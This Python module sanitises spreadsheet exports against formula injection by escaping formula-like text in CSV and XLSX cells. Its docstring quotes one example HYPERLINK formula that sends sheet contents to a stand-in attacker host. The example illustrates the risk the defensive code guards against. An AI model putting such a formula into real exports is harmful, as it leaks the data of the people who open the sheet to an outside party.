"""Spreadsheet cells a customer can open safely: user text never becomes a live formula.

A spreadsheet program treats a cell that starts with `=`, `+`, `-` or `@` (also after leading
spaces, or with a tab or carriage return in front) as a formula: a design name such as
`=HYPERLINK("http://evil.example/?"&A1, "open")` would send the sheet's contents to another host
when clicked. So:

- CSV: such a text cell is written with a leading `'`, which spreadsheets show as text;
- XLSX: the cell is stored as a string (never a formula) and marked "quote prefix", so Excel keeps
  it as text even when someone edits it; the value is the user's text unchanged.

Numbers stay numbers (a negative amount is a float, not text), and text that is just a plain
number ("-5", "1,000") is left alone: a spreadsheet reads it as that number, never as a formula.
"""

from __future__ import annotations

import re
import unicodedata

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_STARTS = frozenset("=+-@")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d[\d,]*(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def starts_like_formula(text: str) -> bool:
    """True when a spreadsheet could read `text` as a formula (or DDE command).

    >>> [starts_like_formula(s) for s in ("=1+1", "  @SUM(A1)", "\\t=x", "-2+3", "-5", "Photo app", "＝1+1")]
    [True, True, True, True, False, False, True]
    """
    if not text:
        return False
    stripped = text.lstrip()
    leading = text[: len(text) - len(stripped)]
    if "\t" in leading or "\r" in leading:
        return True
    if not stripped:
        return False
    first = unicodedata.normalize("NFKC", stripped[0])[:1]  # full-width "＝" reads as "=" in some programs
    if first not in FORMULA_STARTS:
        return False
    return not _PLAIN_NUMBER.fullmatch(stripped.strip())


def csv_cell(value):
    """A value for `csv.writer`: None as empty, numbers as they are, formula-like text behind a `'`."""
    if value is None:
        return ""
    if isinstance(value, str) and starts_like_formula(value):
        return "'" + value
    return value


def xlsx_text(text: str) -> str:
    """Text a worksheet can hold: control characters XML cannot carry become U+FFFD (openpyxl would
    raise IllegalCharacterError on them and the whole export would fail), and a CR becomes a line
    break (XML turns a bare CR into LF when read, so this is what any reader sees anyway)."""
    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", text.replace("\r\n", "\n").replace("\r", "\n"))


def put(sheet, row: int, column: int, value):
    """Write one cell: text as a string (never a formula), numbers as numbers. Returns the cell."""
    if isinstance(value, str):
        text = xlsx_text(value)
        cell = sheet.cell(row=row, column=column)
        cell.value = text
        cell.data_type = "s"  # openpyxl makes any text starting with "=" a formula; this one is text
        if starts_like_formula(text):
            cell.quotePrefix = True
        return cell
    return sheet.cell(row=row, column=column, value=value)
